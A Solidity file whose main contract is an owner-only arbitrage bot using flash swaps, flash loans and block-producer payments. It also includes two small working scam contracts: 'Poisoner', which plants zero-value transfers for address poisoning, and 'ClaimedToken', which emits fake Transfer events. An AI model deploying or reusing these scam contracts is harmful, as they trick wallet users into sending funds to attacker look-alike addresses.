// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

interface IToken {
    function balanceOf(address) external view returns (uint256);
    function transfer(address, uint256) external returns (bool);
    function transferFrom(address, address, uint256) external returns (bool);
    function withdraw(uint256) external;
}

interface IPair {
    function token0() external view returns (address);
    function token1() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256, uint256, address, bytes calldata) external;
}

interface IPool3 {
    function flash(address, uint256, uint256, bytes calldata) external;
    function token0() external view returns (address);
    function token1() external view returns (address);
    function fee() external view returns (uint24);
}

/// What a searcher has on the chain: it trades against pairs with the tokens that it
/// holds, and for its owner alone.
contract Searcher {
    address public immutable owner = msg.sender;

    receive() external payable {}

    modifier own() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    /// Sells `amount` of `token`, which this contract holds, into a pair.
    function sell(IPair pair, address token, uint256 amount) external own returns (uint256) {
        return trade(pair, token, amount);
    }

    /// Buys in one pair and sells in the other with coins of its own, and fails unless
    /// it ends with `least` more.
    function cycle(IPair buy, IPair sellTo, address token, uint256 amount, uint256 least) external own {
        uint256 got = trade(buy, token, amount);
        uint256 back = trade(sellTo, other(buy, token), got);
        require(back >= amount + least, "no profit");
    }

    /// cycle for one who does not look.
    function cycleAtALoss(IPair buy, IPair sellTo, address token, uint256 amount) external own {
        trade(sellTo, other(buy, token), trade(buy, token, amount));
    }

    /// The same with tokens that the first pair lends (a flash swap).
    function borrowed(IPair from, IPair sellTo, address token, uint256 amount, uint256 least) external own {
        address bought = other(from, token);
        uint256 got = quote(from, token, amount);
        bytes memory data = abi.encode(from, sellTo, token, amount, least);
        from.token0() == bought ? from.swap(got, 0, address(this), data) : from.swap(0, got, address(this), data);
    }

    function uniswapV2Call(address, uint256 a, uint256 b, bytes calldata data) external {
        (IPair from, IPair sellTo, address token, uint256 amount, uint256 least) =
            abi.decode(data, (IPair, IPair, address, uint256, uint256));
        require(msg.sender == address(from), "not the pair");
        uint256 back = trade(sellTo, other(from, token), a + b);
        require(back >= amount + least, "no profit");
        IToken(token).transfer(address(from), amount);
    }

    /// Borrows of a v3 pool, trades around two pairs and repays.
    function flash(IPool3 pool, IPair buy, IPair sellTo, address token, uint256 amount) external own {
        bytes memory data = abi.encode(pool, buy, sellTo, token, amount);
        pool.token0() == token ? pool.flash(address(this), amount, 0, data) : pool.flash(address(this), 0, amount, data);
    }

    /// Borrows of a v3 pool and only gives it back, the fee from what it holds.
    function lookAt(IPool3 pool, address token, uint256 amount) external own {
        bytes memory data = abi.encode(pool, IPair(address(0)), IPair(address(0)), token, amount);
        pool.token0() == token ? pool.flash(address(this), amount, 0, data) : pool.flash(address(this), 0, amount, data);
    }

    function uniswapV3FlashCallback(uint256 a, uint256 b, bytes calldata data) external {
        (IPool3 pool, IPair buy, IPair sellTo, address token, uint256 amount) =
            abi.decode(data, (IPool3, IPair, IPair, address, uint256));
        require(msg.sender == address(pool), "not the pool");
        if (address(buy) != address(0)) {
            uint256 back = trade(sellTo, other(buy, token), trade(buy, token, amount));
            require(back > amount + a + b, "no profit");
        }
        IToken(token).transfer(address(pool), amount + a + b);
    }

    /// Pays the producer of the block from wrapped coins of this contract.
    function bribe(IToken weth, uint256 amount) public own {
        weth.withdraw(amount);
        (bool ok,) = block.coinbase.call{value: amount}("");
        require(ok, "not paid");
    }

    /// cycle, with a share of the gain for the producer of the block.
    function cycleAndBribe(IPair buy, IPair sellTo, IToken weth, uint256 amount, uint256 share) external own {
        uint256 back = trade(sellTo, other(buy, address(weth)), trade(buy, address(weth), amount));
        require(back >= amount + share, "no profit");
        bribe(weth, share);
    }

    function take(IToken token) external own {
        token.transfer(owner, token.balanceOf(address(this)));
    }

    function trade(IPair pair, address token, uint256 amount) private returns (uint256 got) {
        got = quote(pair, token, amount);
        IToken(token).transfer(address(pair), amount);
        pair.token0() == token ? pair.swap(0, got, address(this), "") : pair.swap(got, 0, address(this), "");
    }

    function quote(IPair pair, address token, uint256 amount) private view returns (uint256) {
        (uint256 held, uint256 paid,) = pair.getReserves();
        if (pair.token0() != token) (held, paid) = (paid, held);
        uint256 fed = amount * 997;
        return fed * paid / (held * 1000 + fed);
    }

    function other(IPair pair, address token) private view returns (address) {
        return pair.token0() == token ? pair.token1() : pair.token0();
    }
}

/// Plants a look-alike in the histories of others: transfers of nothing need no consent.
contract Poisoner {
    function plant(IToken token, address[] calldata from, address[] calldata to) external {
        for (uint256 i; i < from.length; i++) token.transferFrom(from[i], to[i], 0);
    }
}

/// A token that claims transfers which never happen.
contract ClaimedToken {
    string public name;
    string public symbol;
    uint8 public immutable decimals;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(string memory name_, string memory symbol_, uint8 decimals_) {
        name = name_;
        symbol = symbol_;
        decimals = decimals_;
    }

    function pretend(address from, address to, uint256 value) external {
        emit Transfer(from, to, value);
    }
}

/// Pays with the first token that works, and goes on when one does not.
contract Patient {
    event Skipped(address token);

    function payWithAny(IToken[] calldata tokens, address to, uint256 amount) external {
        for (uint256 i; i < tokens.length; i++) {
            try tokens[i].transferFrom(msg.sender, to, amount) returns (bool ok) {
                if (ok) return;
            } catch {
                emit Skipped(address(tokens[i]));
            }
        }
        revert("nothing worked");
    }
}

/// Pays many at once.
contract Disperser {
    function disperse(IToken token, address[] calldata to, uint256[] calldata amounts) external {
        for (uint256 i; i < to.length; i++) token.transferFrom(msg.sender, to[i], amounts[i]);
    }
}
